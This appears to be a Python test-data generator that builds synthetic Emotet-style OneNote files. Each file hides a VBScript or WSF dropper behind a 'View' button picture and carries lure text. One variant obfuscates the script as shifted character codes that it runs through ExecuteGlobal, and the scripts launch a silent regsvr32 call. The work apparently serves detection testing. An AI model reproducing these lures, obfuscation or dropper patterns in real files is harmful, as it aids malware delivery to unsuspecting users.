"""Emotet's notebooks of 2023-03: a script under a picture that says View."""

from __future__ import annotations

from random import Random

from support import dropper_draws as droppers
from support.carriers.sample import EMOTET, Sample
from support.carriers.word import file_name
from support.draws import letters
from support.onenote_files import one, packaged

_KINDS = ("notebook-script", "script-dropper")
PICTURE = b"\x89PNG\r\n\x1a\n" + b"the word View on a button " * 60


def script(draw: Random, host: str) -> bytes:
    """The script with its list, in the dress of *host*: ``wsf`` or ``vbs``."""
    text = droppers.vbscript(draw, droppers.sites(draw), draw.choice(droppers.VBSCRIPT), "regsvr32.exe /s ")
    rem = "".join(f"' {letters(draw, 20, 60)}\r\n" for _ in range(draw.randint(5, 60)))
    if host == "vbs":
        return (rem + text).encode()
    return f'<job id="{letters(draw, 3, 5)}"><script language="VBScript">\r\n{rem}{text}\r\n</script></job>'.encode()


def _by_number(draw: Random, host: str) -> bytes:
    """A script of which no word can be read: numbers, each moved by one number, put together and executed."""
    moved = draw.randint(3, 90)
    inner = droppers.vbscript(draw, droppers.sites(draw), droppers.vbs_added, "regsvr32.exe /s ")
    name, out = letters(draw, 6, 10), letters(draw, 6, 10)
    listed = ",".join(str(ord(one) + moved) for one in inner)
    text = (
        f"{name} = Array({listed})\r\nFor Each x In {name}\r\n{out} = {out} & Chr(x - {moved})\r\nNext\r\nExecuteGlobal {out}\r\n"
    )
    return text.encode() if host == "vbs" else f'<job><script language="VBScript">\r\n{text}</script></job>'.encode()


def veiled(draw: Random) -> Sample:
    """Either script with its words as numbers: the name of the script tells."""
    name = draw.choice(("click.wsf", "press to unblock document.vbs", "Click.WSF"))
    files = [(name, _by_number(draw, name[-3:])), ("view.png", PICTURE)]
    return Sample(file_name(draw, "one"), one(files, ["View"]), EMOTET, ("notebook-script",))


def wsf(draw: Random) -> Sample:
    """2023-03-15."""
    files = [("view.png", PICTURE), ("click.wsf", script(draw, "wsf"))]
    page = ["This document is protected", 'You have to double-click "View" button to open this document']
    return Sample(file_name(draw, "one"), one(files, page), EMOTET, _KINDS)


def vbs(draw: Random) -> Sample:
    """2023-03-22."""
    files = [("press to unblock document.vbs", script(draw, "vbs")), ("view.png", PICTURE)]
    return Sample(file_name(draw, "one"), one(files, ["Not available preview for protected documents"]), EMOTET, _KINDS)


def renamed(draw: Random) -> Sample:
    """The script under another name: then its list of addresses tells."""
    name = f"{letters(draw, 4, 8)}.{draw.choice(('wsf', 'vbs'))}"
    files = [(name, script(draw, name[-3:])), ("view.png", PICTURE)]
    return Sample(file_name(draw, "one"), one(files, ["Double click to view"]), EMOTET, _KINDS)


def from_the_web(draw: Random) -> Sample:
    """As Office 365 packs it."""
    return Sample(
        file_name(draw, "one"), packaged([script(draw, "wsf"), PICTURE], ["click.wsf", "double-click View"]), EMOTET, _KINDS
    )
